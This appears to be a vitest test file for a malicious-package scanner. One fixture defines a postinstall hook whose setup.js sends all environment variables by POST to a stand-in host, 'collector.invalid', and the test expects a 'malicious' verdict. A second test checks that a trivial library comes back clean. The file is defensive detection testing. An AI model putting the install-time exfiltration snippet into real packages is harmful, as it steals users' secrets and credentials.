import { describe, expect, test } from 'vitest';
import { scanFiles, manifest } from './helpers/analyze.js';

describe('engine smoke', () => {
  test('env serialized and posted from postinstall is malicious', () => {
    const r = scanFiles({
      'package.json': manifest({ scripts: { postinstall: 'node setup.js' } }),
      'setup.js': "const h = require('https'); const e = process.env; h.request({ host: 'collector.invalid', method: 'POST' }).end(JSON.stringify(e));",
    });
    expect(r.verdict).toBe('malicious');
    expect(r.of('env-access')[0]?.reach).toBe('install');
  });
  test('a plain library is clean', () => {
    const r = scanFiles({ 'index.js': "module.exports = (a, b) => a + b;" });
    expect(r.verdict).toBe('clean');
    expect(r.findings).toEqual([]);
  });
});
